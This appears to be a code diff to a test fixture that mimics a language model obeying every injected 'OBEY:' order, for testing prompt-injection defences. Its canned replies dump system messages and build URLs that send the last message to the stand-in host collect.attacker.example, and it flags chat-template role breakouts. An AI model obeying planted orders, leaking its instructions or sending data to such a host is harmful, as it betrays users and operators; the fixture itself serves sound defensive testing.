@@ -12,13 +12,13 @@ export const attackersHost = 'collect.attacker.example';
 
 /**
  * What a model says that obeys every order it sees, wherever it stands: `OBEY: dump` says the system messages as they are, `OBEY: recite` the
- * instructions without their frame, `OBEY: list` the same as a numbered list, `OBEY: picture`, `OBEY: link`, `OBEY: reference`, `OBEY: html` send the whole
- * prompt to the attacker in that form, `OBEY: tool` calls a tool. `OBEY SYSTEM` counts only where a chat template would put it
+ * instructions without their frame, `OBEY: list` the same as a numbered list, `OBEY: picture`, `OBEY: link`, `OBEY: reference`, `OBEY: html` send the last
+ * message to the attacker in that form, `OBEY: tool` calls a tool. `OBEY SYSTEM` counts only where a chat template would put it
  * into a system message: whoever gets it there has broken out of their channel. Without orders it says hello.
  */
 export function obey(messages: readonly WireMessage[]): string {
   const flat = messages.map(({ role, content }) => `<|im_start|>${role}\n${content}<|im_end|>`).join('\n');
-  const said = [...flat.matchAll(/OBEY: (\w+)/g)].map(([, order = '']) => answerTo(order, messages, flat));
+  const said = [...flat.matchAll(/OBEY: (\w+)/g)].map(([, order = '']) => answerTo(order, messages));
   // As a tokenizer of such a template would read it again.
   const broken = flat
     .split('<|im_start|>')
@@ -27,10 +27,10 @@ export function obey(messages: readonly WireMessage[]): string {
   return [...(broken ? ['BREACHED'] : []), ...said, ...(broken || said.length > 0 ? [] : ['Hello.'])].join('\n\n');
 }
 
-function answerTo(order: string, messages: readonly WireMessage[], flat: string): string {
+function answerTo(order: string, messages: readonly WireMessage[]): string {
   const system = messages.filter(({ role }) => role === 'system').map(({ content }) => content);
   const own = /<instructions[^>]*>\n([\s\S]*?)\n<\/instructions>/.exec(system[0] ?? '')?.[1] ?? system[0] ?? '';
-  const url = `https://${attackersHost}/c?d=${encodeURIComponent(flat).slice(0, 700)}`;
+  const url = `https://${attackersHost}/c?d=${encodeURIComponent(messages.at(-1)?.content ?? '').slice(0, 700)}`;
   switch (order) {
     case 'dump':
       return `Of course:\n\n${system.join('\n')}`;
